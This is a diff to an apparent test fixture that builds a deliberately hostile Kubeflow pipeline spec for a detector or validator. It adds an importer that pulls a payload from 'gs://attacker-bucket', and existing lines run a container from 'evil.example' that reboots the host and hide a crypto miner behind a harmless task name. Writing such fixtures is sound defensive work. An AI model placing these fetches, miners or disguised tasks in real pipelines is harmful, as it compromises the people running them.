@@ -42,7 +42,7 @@ def with_pipeline(bundle: Path, text: str, out: Path) -> Path:
 def hostile_ir() -> str:
     """A pipeline.yaml whose display names hide what runs: a secret-stealing shell task with env,
     resources and Kubernetes platform config, a miner in a sub-pipeline with embedded Python source,
-    an executor no task uses, a DAG that contains itself and a task naming a missing component."""
+    an importer, an executor no task uses, a DAG that contains itself and a task naming a missing component."""
     spec = {
         "pipelineInfo": {"name": "innocent-report"},
         "schemaVersion": "2.1.0",
@@ -56,6 +56,7 @@ def hostile_ir() -> str:
                 "outer": {"componentRef": {"name": "comp-sub"}, "taskInfo": {"name": "outer"}},
                 "forever": {"componentRef": {"name": "comp-self"}, "taskInfo": {"name": "forever"}},
                 "ghost": {"componentRef": {"name": "comp-missing"}, "taskInfo": {"name": "ghost"}},
+                "fetch": {"componentRef": {"name": "comp-fetch"}, "taskInfo": {"name": "fetch"}},
             }},
         },
         "components": {
@@ -63,6 +64,7 @@ def hostile_ir() -> str:
             "comp-sub": {"dag": {"tasks": {"inner-miner": {"componentRef": {"name": "comp-miner"},
                                                            "taskInfo": {"name": "Compute summary"}}}}},
             "comp-miner": {"executorLabel": "exec-miner"},
+            "comp-fetch": {"executorLabel": "exec-fetch"},
             "comp-self": {"dag": {"tasks": {"again": {"componentRef": {"name": "comp-self"}}}}},
         },
         "deploymentSpec": {"executors": {
@@ -75,6 +77,8 @@ def hostile_ir() -> str:
                 "image": "python:3.11-slim",
                 "command": ["sh", "-ec", 'python3 -c "$0"', KFP_HEADER + MINER_SOURCE],
                 "args": ["--function_to_execute", "mine"]}},
+            "exec-fetch": {"importer": {"artifactUri": {"constant": "gs://attacker-bucket/payload.bin"},
+                                        "typeSchema": {"schemaTitle": "system.Artifact"}}},
             "exec-hidden": {"container": {"image": "evil.example/hidden:2", "command": ["sh", "-c", "reboot"]}},
         }},
     }
